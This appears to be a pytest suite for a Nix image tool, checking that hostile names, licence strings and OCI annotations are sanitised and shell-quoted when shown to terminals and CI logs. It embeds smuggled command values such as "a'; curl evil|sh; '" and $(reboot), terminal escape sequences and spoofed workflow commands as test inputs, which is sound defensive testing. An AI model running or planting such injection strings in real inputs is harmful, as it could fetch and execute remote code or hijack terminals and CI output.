"""Words of images, flakes and registries have no power over a terminal, a runner or a shell."""

from __future__ import annotations

import json
import os
import pty
import shlex
import shutil
import subprocess
import sys
from hashlib import sha256
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from nix_seed.cli.progress_lines import Lines
from nix_seed.cli.say import error_lines, say
from nix_seed.core.errors import CheckedFalse, InputError
from nix_seed.core.events import Stage
from nix_seed.core.safe_text import safe_line, safe_text
from nix_seed.licences.rules.judge import Withheld, check_accepted
from support.seeds import COMMAND, build, environment, nix_seed, write_project
from support.specs import store_path

NAME = "a'; curl evil|sh; '\x1b[2J\x1b]0;pwned\x07\u202e\n::error::owned\nhint: ##[add-mask]x"


def is_harmless(text: str) -> bool:
    lines = text.splitlines()
    return (
        all(char.isprintable() or char in "\n\t" for char in text)
        and not any(line.lstrip().startswith("::") for line in lines)
        and "##[" not in text
    )


@given(st.text(st.characters() | st.sampled_from("\x1b\x9b\r\n:#[ \u2028\u202e\x85"), max_size=40))
def test_whatever_it_is(text: str) -> None:
    assert is_harmless(safe_text(text))
    assert is_harmless(safe_line(text))
    assert "\n" not in safe_line(text)
    assert safe_text(safe_text(text)) == safe_text(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("fetching https://me:hunter2@h.io/x?a=b failed", "fetching https://…@h.io/x?a=b failed"),
        ("/work/https:/me:hunter2@h.io/x", "/work/https:/…@h.io/x"),
        ("git+https://ghp_hunter2@h.io/x", "git+https://…@h.io/x"),
        ("https://h.io/x?token=hunter2&ref=main", "https://h.io/x?token=…&ref=main"),
        ("https://h.io/x?X-Amz-Signature=hunter2'", "https://h.io/x?X-Amz-Signature=…'"),
        ("git+ssh://git@h.io/x?ref=main&rev=12", "git+ssh://git@h.io/x?ref=main&rev=12"),
        (
            "HTTPS_PROXY=http://user:password@host:port",
            "HTTPS_PROXY=http://user:password@host:port",
        ),
        ("h.io/o/r:v1@sha256:00", "h.io/o/r:v1@sha256:00"),
    ],
)
def test_who_logs_in_by_an_address_is_not_shown(text: str, shown: str) -> None:
    assert safe_line(text) == shown


LONG = "n" * 5000


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["inspect", "https://me:hunter2@h.io/x"], 2, "a reference has no scheme"),
        (["inspect", "me:hunter2@h.io/o/r:v1"], 2, "holds no user and no password"),
        (["inspect", "h.io/o/r:v1", "--ca-file", "https://me:hunter2@h.io/x"], 2, "does not exist"),
        (["unmount", "--root", LONG], 2, "File name too long"),
        (["unmount", "--root", "loop"], 2, "Too many levels of symbolic links"),
        (["inspect", f"oci:/{LONG}"], 2, "File name too long"),
        (["inspect", f"h.io/{LONG}"], 2, "255"),
        (["key", "generate", ""], 2, "it is empty"),
        (["log", "check", ".", "--key", "/dev/zero"], 2, "larger than any document"),
        (["log", "check", ".", "--key", "latin"], 2, "latin is not UTF-8"),
        (["policy", "init", "new.toml", "--repository", "\udcff"], 2, "is not UTF-8: b'\\xff'"),
        (["hydrate", "oci:seed", "--root", ""], 2, "it is empty"),
        (["inspect", "h.io/o/r:v1", "--ca-file="], 2, "it is empty"),
    ],
)
@pytest.mark.parametrize("json", [False, True])
def test_an_error_shows_no_password_and_no_endless_word(
    arguments: list[str], code: int, words: str, tmp_path: Path, *, json: bool
) -> None:
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "latin").write_bytes(b"caf\xe9")
    done = nix_seed(*arguments, *["--json"] * json, cache=tmp_path, cwd=tmp_path)
    assert done.code == code, done.err
    assert words in done.err
    assert "hunter2" not in done.err + done.out
    assert len(done.err) < 2000


def test_plain_words_are_kept() -> None:
    text = "Straße — 5 µs\n\tx::y  (a: b) # [c]"
    assert safe_text(text) == text
    assert safe_line("a\nb") == "a b"


def test_an_error_of_hostile_words() -> None:
    error = CheckedFalse(f"reading {NAME}", detail=f"said\n{NAME}", hint=f"see {NAME}\nor not")
    text = "\n".join(error_lines(error))
    assert is_harmless(text)
    # What it quotes is at the beginning of no line: only our own words are.
    begins = [line.partition(" ")[0] for line in text.splitlines() if not line.startswith("  ")]
    assert begins == ["error:", "hint:"]
    assert "  or not" in text.splitlines()


def test_our_own_hints_keep_their_lines() -> None:
    error = InputError("no", hint="install it:\n  on Debian   apt-get install x\nor build it")
    assert list(error_lines(error)) == [
        "error: no",
        "hint: install it:",
        "  on Debian   apt-get install x",
        "  or build it",
    ]


def test_a_command_to_copy_is_one_command() -> None:
    names = [
        "plain-1.0",
        "a b",
        "a'; curl evil|sh; '",
        "$(reboot)",
        "`reboot`",
        "a;b",
        "",
        "--",
        "\\",
    ]
    withheld = [Withheld(store_path(f"x{n}"), f"x{n}", name, "") for n, name in enumerate(names)]
    with pytest.raises(InputError) as caught:
        check_accepted("seed", withheld, ())
    told = str(caught.value.hint).partition("then: ")[2]
    shell = ["sh", "-c", f'show() {{ printf "%s\\n" "$@"; }}; show {told}']
    said = subprocess.run(shell, check=True, capture_output=True, text=True).stdout.splitlines()
    assert said == [word for name in sorted(names) for word in ("--accept-licence", name)]
    assert shlex.split(told) == said


def test_a_hostile_spec_is_shown_harmlessly() -> None:
    with pytest.raises(InputError) as caught:
        check_accepted(NAME, [Withheld(store_path("x"), NAME, NAME, "", NAME)], ())
    lines = list(error_lines(caught.value))
    assert is_harmless("\n".join(lines))
    begins = [line[:6] for line in lines if not line.startswith("  ")]
    assert begins == ["error:", "hint: "]
    told = "\n".join(lines).partition("then: ")[2]
    assert [len(shlex.split(told)), shlex.split(told)[0]] == [2, "--accept-licence"]


def test_what_is_said(capsys: pytest.CaptureFixture[str]) -> None:
    say(NAME)
    say({"name": NAME})
    say(NAME, err=True, fg="red")
    Lines(sys.stderr)(Stage("x", NAME))
    said = capsys.readouterr()
    *text, value = said.out.splitlines()
    assert is_harmless("\n".join(text))
    assert "##[" not in value
    assert json.loads(value)["name"] == NAME, "programs read what it was"
    assert "\x1b]" not in said.err
    assert said.err.splitlines()[-1].startswith("nix-seed: ")
    assert is_harmless(said.err.splitlines()[-1])


@pytest.fixture(scope="module")
def project(distribution: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A flake whose licence is a command to everyone who reads it."""
    written = json.dumps(NAME).replace("\\u001b", "\x1b").replace("\\u0007", "\x07")
    written = written.replace("\\u202e", "\u202e")
    outputs = f"""
      packages.${{system}}.default = pkgs.runCommand "app" {{
        own = ./own.txt;
        tool = pkgs.runCommand "tool-1.0" {{ }} "echo > $out"
          // {{ meta.license = {{ shortName = {written}; free = false; }}; }};
      }} "cat $tool $own > $out";
    """
    directory = tmp_path_factory.mktemp("hostile") / "project"
    return write_project(directory, distribution, outputs, {"own.txt": "own\n"})


@pytest.fixture(scope="module")
def layout(project: Path, cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("image") / "seed"
    build(project, "-o", directory, "--tag", "seed", cache=cache)
    return directory


def test_an_image_that_withholds_by_a_hostile_name(
    project: Path, layout: Path, cache: Path, tmp_path: Path
) -> None:
    image = f"oci:{layout}:seed"
    ran = nix_seed("hydrate", image, "--root", tmp_path / "root", "--flake", project, cache=cache)
    assert ran.code == 2
    assert is_harmless(ran.err)
    assert "tool-1.0: licence a'; curl evil|sh; '" in ran.err
    told = nix_seed("licences", image, cache=cache)
    assert told.out.startswith("withheld  tool-1.0  a'; curl evil|sh; '")
    assert is_harmless(told.out)


def test_progress_on_a_terminal(project: Path, cache: Path, tmp_path: Path) -> None:
    master, slave = pty.openpty()
    done = subprocess.Popen(
        [*COMMAND, "build", str(project), "-o", str(tmp_path / "image")],
        env=environment(cache) | {"TERM": "xterm", "COLUMNS": "400"},
        stdin=slave,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    shown = b""
    while True:
        try:
            piece = os.read(master, 65536)
        except OSError:
            break
        if not piece:
            break
        shown += piece
    os.close(master)
    assert done.wait() == 0, shown
    assert b"not to be passed on: tool-1.0 (a'; curl evil|sh; '" in shown
    assert b"\x1b]0;" not in shown
    assert b"\x1b[2J" not in shown
    assert b"\x07" not in shown


def test_an_image_with_hostile_annotations(layout: Path, cache: Path, tmp_path: Path) -> None:
    shutil.copytree(layout, tmp_path / "image")
    blobs = tmp_path / "image" / "blobs" / "sha256"
    index = json.loads((tmp_path / "image" / "index.json").read_text())
    [entry] = index["manifests"]
    manifest = json.loads((blobs / entry["digest"].removeprefix("sha256:")).read_text())
    manifest["annotations"]["io.nix-seed.name"] = NAME
    manifest["layers"][0]["annotations"]["io.nix-seed.tier"] = NAME
    text = json.dumps(manifest).encode()
    entry |= {"digest": f"sha256:{sha256(text).hexdigest()}", "size": len(text)}
    (blobs / sha256(text).hexdigest()).write_bytes(text)
    (tmp_path / "image" / "index.json").write_text(json.dumps(index))
    ran = nix_seed("inspect", f"oci:{tmp_path / 'image'}:seed", cache=cache)
    assert ran.code == 0, ran.err
    assert "name       a'; curl evil|sh; '" in ran.out
    assert is_harmless(ran.out)
    assert not any(line.startswith("hint:") for line in ran.out.splitlines())
